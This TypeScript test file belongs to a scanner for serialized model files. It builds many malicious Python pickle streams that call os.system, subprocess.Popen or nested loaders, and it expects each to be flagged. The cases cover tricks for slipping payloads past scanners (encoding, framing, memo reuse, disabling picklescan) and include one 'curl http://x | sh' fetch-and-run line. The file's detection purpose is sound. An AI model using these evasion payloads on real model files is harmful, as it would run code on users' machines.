/** The ways in which pickles are known to carry a payload past an examination, each in several forms. */
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { concat, latin1, u32, u64, utf8 } from '#formats/test-files/bytes';
import { op, plain, reduce, stream } from '#formats/test-files/pickle';
import { isAlarm, scanBytes } from '../test-scan.ts';

const text = op.text;
const id = text('id');
const call = reduce('posix', 'system', id);
const attack = stream(call);
const dotted = (module: string, name: string) => stream(op.shortText(module), op.shortText(name), '\x93', id, '\x85R');
const named = (path: string): [string, string] => [path.slice(0, path.lastIndexOf('.')), path.slice(path.lastIndexOf('.') + 1)];
const framed = (body: Uint8Array) => concat(op.proto(4), op.frame(body.length), body);

describe('is critical', () => {
  const cases: readonly (readonly [string, Uint8Array])[] = [
    ['a gadget chain over a module that a neutral module has imported', dotted('collections', '_sys.modules')],
    ['a walk from a class to everything', dotted('torch.nn', 'Module.__init__.__globals__')],
    ['getattr on such a module', stream(reduce('builtins', 'getattr', op.global('logging', 'os'), text('system')), id, '\x85R')],
    ['getattr with a dunder', stream(reduce('builtins', 'getattr', op.global('collections', 'OrderedDict'), text('__subclasses__')))],
    ['map over a list', stream(reduce('builtins', 'map', op.global('os', 'system'), concat('](', id, 'e')))],
    [
      'a list made from such a map',
      stream(op.global('builtins', 'list'), reduce('builtins', 'map', op.global('os', 'system'), concat('](', id, 'e')), '\x85R'),
    ],
    [
      'bytes made from such a map by NEWOBJ',
      stream(op.global('builtins', 'bytes'), reduce('builtins', 'map', op.global('os', 'system'), concat('](', id, 'e')), '\x85\x81'),
    ],
    ['functools.reduce over import_module', stream(reduce('functools', 'reduce', op.global('importlib', 'import_module'), plain(['os'])))],
    ['a partial kept and called', stream(reduce('functools', 'partial', op.global('subprocess', 'Popen'), id), ')R')],
    ['names of Python 2', stream(reduce('commands', 'getoutput', id))],
    ['execfile of Python 2', stream(reduce('__builtin__', 'execfile', id))],
    ['a module renamed between versions', stream(reduce('cStringIO', 'open', id))],
    ['an environment that is written to', stream(op.global('os', 'environ'), text('LD_PRELOAD'), text('/tmp/x.so'), 's')],
    ['a payload inside the arguments of a tensor', stream(op.global('torch._utils', '_rebuild_tensor_v2'), '(', call, 'K\x00)))NtR')],
    ['a payload as a key', stream('}', call, 'Ns')],
    ['a payload in a persistent id', stream('(', text('storage'), call, 'tQ')],
    ['a payload in a set', concat(op.proto(4), '\x8f(', call, '\x90.')],
    ['a payload whose result is popped', stream(call, '0N')],
    ['a payload behind POP_MARK', stream('(', call, '1N')],
    ['a callee fetched by GET after DUP', stream(op.global('os', 'system'), '2', op.put(200), '00', op.get(200), id, '\x85R')],
    ['a callee stored under a text number', latin1("cos\nsystem\np77\n0g77\n(S'id'\ntR.")],
    [
      'a memo entry that is written twice',
      stream(op.global('collections', 'OrderedDict'), op.put(0), '0', op.global('os', 'system'), op.put(0), '0', op.get(0), id, '\x85R'),
    ],
    [
      'PUT of a name and STACK_GLOBAL from GET',
      stream(op.shortText('os'), op.put(0), '0', op.shortText('system'), op.put(1), '0', op.get(0), op.get(1), '\x93', id, '\x85R'),
    ],
    [
      'a mix of MEMOIZE and BINPUT',
      stream(
        op.shortText('x'),
        '\x94',
        op.put(5),
        '0',
        op.shortText('os'),
        '\x940',
        op.get(2),
        op.shortText('system'),
        '\x93',
        id,
        '\x85R',
      ),
    ],
    ['OBJ without a tuple', stream('(', op.global('os', 'system'), id, 'o')],
    ['INST in protocol 0', latin1("(S'id'\nios\nsystem\n.")],
    ['NEWOBJ_EX with named arguments', concat(op.proto(4), op.global('subprocess', 'Popen'), ')}', text('args'), id, 's\x92.')],
    ['a frame around it', framed(concat(call, '.'))],
    ['a second stream in a frame', concat(stream(plain(1)), framed(concat(call, '.')))],
    ['a tenth stream', concat(...Array.from({ length: 9 }, () => stream(plain(1))), attack)],
    ['a stream behind a broken one', concat(op.proto(2), 'K\x01\xff', new Uint8Array(40), attack)],
    ['a line feed of Windows in a name', latin1("cos\r\nsystem\r\n(S'id'\r\ntR.")],
    ['a name in escapes', concat(op.proto(2), latin1('V\\u006fs\nV\\u0073ystem\n'), '\x93', id, '\x85R.')],
    ['a long stream of nothing before a payload without a mark', latin1(`${'N0'.repeat(3000)}cos\nsystem\n(S'id'\ntR.`)],
    ['a long first line without a mark', concat("S'", 'a'.repeat(300_000), "'\n0", call, '.')],
    ['pickle.loads of bytes', stream(reduce('pickle', 'loads', op.bytes(attack)))],
    ['dill.loads of bytes', stream(reduce('dill', 'loads', op.bytes(attack)))],
    ['pandas reading a pickle', stream(reduce('pandas', 'read_pickle', text('x.pkl')))],
    ['joblib reading a file', stream(reduce('joblib', 'load', text('x.joblib')))],
    ['torch.storage loading bytes that hold a payload', stream(reduce('torch.storage', '_load_from_bytes', op.bytes(attack)))],
    [
      'the same bytes written as text',
      stream(reduce('torch.storage', '_load_from_bytes', reduce('_codecs', 'encode', text(latin1Text(attack)), text('latin1')))),
    ],
    ['a payload in bytes, behind other bytes', stream(op.bytes(concat(new Uint8Array(50).fill(7), attack)))],
    ['a payload in the third pickle inside a value', stream(op.bytes(concat(stream(plain(1)), stream(plain(2)), attack)))],
    ['a payload in base64', stream(text(Buffer.from(attack).toString('base64')))],
    [
      'a payload in base64 with line breaks',
      stream(
        text(
          Buffer.from(concat(stream(plain(['x'.repeat(90)])), attack))
            .toString('base64')
            .replace(/(.{60})/g, '$1\n'),
        ),
      ),
    ],
    ['a payload in hexadecimal', stream(text(Buffer.from(attack).toString('hex')))],
    ['a payload in a text of protocol 0', latin1(`V${latin1Escapes(attack)}\n.`)],
    ['a payload in base64 inside a JSON text', stream(text(JSON.stringify({ weights: Buffer.from(attack).toString('base64') })))],
    ['a payload in base64 of base64', stream(text(Buffer.from(Buffer.from(attack).toString('base64')).toString('base64')))],
    ['a payload in text that holds bytes, behind other bytes', stream(text(`some words in front ${latin1Text(attack)}`))],
    ['a pickle behind bytes that are nothing', concat('\x00\x01\x02junk', attack)],
    ['a memo number with an underscore', latin1("cos\nsystem\np1_0\n0g10\n(S'id'\ntR.")],
    ['a scanner that is switched off', stream(reduce('picklescan.scanner', 'scan_pickle_bytes', id))],
    ['a class of a scanner', stream(op.global('modelscan.scanners', 'PickleScanner'), ')\x81')],
  ];

  test.each(cases)('%s', (_name, bytes) => {
    expect(scanBytes(bytes).verdict).toBe('critical');
  });
});

describe('is at least high', () => {
  const cases: readonly (readonly [string, Uint8Array])[] = [
    ['an unknown class made from a command', stream(op.global('vendor.tools', 'Runner'), text('curl http://x | sh'), '\x85\x81')],
    ['an unknown function in a dotted name', dotted('vendor', 'tools.run')],
    ['a call of an extension code', stream('\x84', u32(300), id, '\x85R')],
    ['__code__ put into a known class', stream(op.global('torch.nn', 'Linear'), plain({ __code__: 'x' }), 'b')],
    [
      '__code__ among many attributes',
      stream(
        op.global('client', 'Net'),
        ')\x81',
        plain({ ...Object.fromEntries(Array.from({ length: 200 }, (_, key) => [`a${key}`, key])), __code__: 'x' }),
        'b',
      ),
    ],
    ['a class replaced through slots', stream(op.global('client', 'Net'), ')\x81N', plain({ __class__: 'x' }), '\x86b')],
    ['a frame that ends inside a long text', concat(op.proto(4), op.frame(140_000), op.text('a'.repeat(150_000)), '.')],
    ['a frame inside a frame', concat(op.proto(4), op.frame(30), 'N0', op.frame(4), 'N0N.', 'N'.repeat(20))],
    ['a frame longer than the file', concat(op.proto(4), op.frame(1e6), 'N.')],
    ['a frame that goes on behind STOP', concat(op.proto(4), op.frame(40), 'N.', call, '.'.repeat(40))],
    ['a protocol mark inside the stream', stream('N0', op.proto(4), 'N')],
    ['expansion by DUP', stream(']', '2\x86'.repeat(60))],
    ['a name out of a call', stream(reduce('_codecs', 'encode', text('os')), op.shortText('system'), '\x93')],
    [
      'a function by value, as dill writes it',
      stream(reduce('dill._dill', '_create_function', reduce('dill._dill', '_create_code', op.number(0)), plain({}))),
    ],
    [
      'a function by value, as cloudpickle writes it',
      stream(reduce('cloudpickle.cloudpickle', '_make_function', op.global('cloudpickle.cloudpickle', '_make_empty_cell'), plain({}))),
    ],
    ['a code object by a helper', stream(reduce('cloudpickle.cloudpickle', '_builtin_type', text('CodeType')), 'K\x00\x85R')],
    ['marshal', stream(reduce('marshal', 'loads', op.bytes(utf8('abcdef'))))],
    [
      'a graph module of PyTorch FX',
      stream(reduce('torch.fx.graph_module', 'reduce_graph_module', plain({ _code: 'import os' }), text('x'))),
    ],
    [
      'copyreg with a foreign base',
      stream(reduce('copyreg', '_reconstructor', op.global('client', 'Net'), op.global('vendor', 'Base'), text('x'))),
    ],
  ];

  test.each(cases)('%s', (_name, bytes) => {
    expect(isAlarm(scanBytes(bytes).verdict)).toBe(true);
  });
});

describe('is medium', () => {
  const cases: readonly (readonly [string, Uint8Array])[] = [
    ['an unknown name that is not called', stream(op.global('vendor.tools', 'run'))],
    ['an unknown class made from plain words', stream(op.global('client', 'Point'), 'K\x01K\x02\x86\x81')],
    ['an extension code that is not called', stream('\x82\x05')],
    ['a stream that breaks off', concat(op.proto(2), 'K\x01')],
    ['a stream in which every loader fails', stream('0')],
    ['a persistent id that PyTorch does not write', stream(text('table:users'), 'Q')],
    ['a partial of an unknown function', stream(reduce('functools', 'partial', op.global('client', 'loss')))],
  ];

  test.each(cases)('%s', (_name, bytes) => {
    expect(scanBytes(bytes).verdict).toBe('medium');
  });
});

describe('is ordinary', () => {
  const cases: readonly (readonly [string, Uint8Array])[] = [
    ['a partial of a layer', stream(reduce('functools', 'partial', op.global('torch.nn.modules.normalization', 'LayerNorm')))],
    [
      'a method of an object that the file makes',
      stream(reduce('builtins', 'getattr', concat(op.global('sklearn.linear_model', 'Ridge'), ')\x81'), text('predict'))),
    ],
    ['a member of an enumeration of transformers', stream(reduce('transformers.trainer_utils', 'IntervalStrategy', text('steps')))],
    ['the type of None', stream(reduce('builtins', 'type', utf8('N')))],
    ['a function that fetches a column', stream(reduce('operator', 'itemgetter', op.number(1)))],
    ['a compressed block that no scanner needs to load', stream(plain(['x^2 + y^2', 'PK', 'class labels\nand more', 'MZ']))],
    ['long texts of letters', stream(text('gAAA'.repeat(20)), text('deadbeef'.repeat(9)), text('Yes, of course this is a sentence'))],
  ];

  test.each(cases)('%s', (_name, bytes) => {
    expect(scanBytes(bytes).verdict).toBe('clean');
  });
});

describe('capabilities', () => {
  test.each([
    ['os.system', 'starts programs'],
    ['builtins.exec', 'runs program code'],
    ['urllib.request.urlopen', 'connects to the network'],
    ['shutil.rmtree', 'reads, writes or deletes files'],
    ['importlib.import_module', 'imports any module'],
    ['joblib.load', 'loads another serialised object'],
    ['ctypes.CDLL', 'works on raw memory or native code'],
    ['operator.attrgetter', 'reaches into any object'],
    ['numpy.testing._private.utils.runstring', 'starts programs'],
    ['torch.utils._config_module.ConfigModule.load_config', 'runs program code'],
  ])('%s %s', (path, said) => {
    const scan = scanBytes(stream(reduce(...named(path), text('x'))));
    expect(scan.observations[0]?.detail).toContain(said);
    expect(scan.observations[0]?.evidence?.note).toMatch(/^Loading .+\.$/);
  });
});

test('what compressed bytes hold is handed on as a file of its own', () => {
  const scan = scanBytes(stream(op.bytes(deflateSync(attack))));
  expect(scan.contents.map(({ member }) => member)).toContain('value at 7');
  expect(scan.verdict).toBe('critical');
});

test('evidence names each argument, what pushed it, and what an opcode does', () => {
  const [found] = scanBytes(stream(op.global('os', 'system'), op.put(1), '0', op.get(1), id, '\x85R')).observations;
  expect(found?.evidence?.fields).toEqual([
    { pointer: 'callee', value: 'os.system, by GLOBAL at 2' },
    { pointer: 'argument 1', value: '"id", by BINUNICODE at 18' },
    {
      pointer: 'loaded by',
      value: 'pickle.load(…), and likewise joblib.load(…), pandas.read_pickle(…) or torch.load(…, weights_only=False)',
    },
    { pointer: 'torch.load(weights_only=True)', value: 'refuses the stream because of os.system' },
  ]);
  expect(found?.evidence?.note).toBe('Loading starts a program on the computer: os.system("id").');
  expect(found?.evidence?.trace?.find(({ mark }) => mark === 'cause')?.note).toContain('calls the function');
});

test('a file says what loads it and whether the restricted loader would', () => {
  const facts = (bytes: Uint8Array) => new Map(scanBytes(bytes).facts.map(({ label, value }) => [label, value]));
  expect(facts(attack).get('torch.load(weights_only=True)')).toBe('refuses the file because of posix.system');
  expect(facts(stream(op.global('collections', 'OrderedDict'), ')R')).get('torch.load(weights_only=True)')).toBe(
    'knows every name in the file',
  );
  expect(facts(attack).get('Loaded by')).toContain('pickle.load');
});

/** Each byte as the character of the same number. */
function latin1Text(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('latin1');
}

function latin1Escapes(bytes: Uint8Array): string {
  return [...bytes].map((byte) => `\\u${byte.toString(16).padStart(4, '0')}`).join('');
}

test('lengths of eight bytes that run past the end are malformed and nothing else', () => {
  expect(scanBytes(concat(op.proto(4), call, '\x8e', u64(2 ** 50), 'x')).verdict).toBe('critical');
});

describe('a few bytes that fill the memory are told', () => {
  const huge = latin1('\x8a\x06\x00\x00\x00\x00\x00\x01');
  test.each([
    ['a place of the memo far behind all others', latin1('\x80\x02Nr\xff\xff\xff\xff0N.')],
    ['the same in decimal', latin1('Np4294967295\n.')],
    ['a list of a range', stream(reduce('builtins', 'list', reduce('builtins', 'range', huge)))],
    ['bytes by a number', stream(reduce('builtins', 'bytearray', huge))],
    ['a first value longer than the file', concat(latin1('\x80\x05\x96'), u64(2 ** 45), 'abc')],
    ['a first number longer than the file', concat(latin1('\x80\x02\x8b'), u32(2 ** 31 - 1), 'abc')],
  ])('%s', (_, bytes) => {
    const scan = scanBytes(bytes);
    expect(scan.format.kind).toBe('pickle');
    expect(['medium', 'high']).toContain(scan.verdict);
  });

  test('and what frameworks write of the same kind is not', () => {
    expect(scanBytes(stream(reduce('builtins', 'bytearray', op.text('abc'), op.text('latin-1')))).verdict).toBe('clean');
    expect(scanBytes(stream(reduce('builtins', 'range', huge))).verdict).toBe('clean');
  });
});

test('a NumPy header that calls something is damaged, whatever the array', () => {
  const header = (text: string) => concat('\x93NUMPY\x01\x00', new Uint8Array([118, 0]), text.padEnd(117), '\n');
  const shape = "'fortran_order': False, 'shape': (0,), }";
  expect(scanBytes(header(`{'descr': '<f8', ${shape}`)).verdict).toBe('clean');
  expect(scanBytes(header(`{'descr': print('x'), ${shape}`))).toMatchObject({ rules: ['MDL-ART-001'], verdict: 'medium' });
});
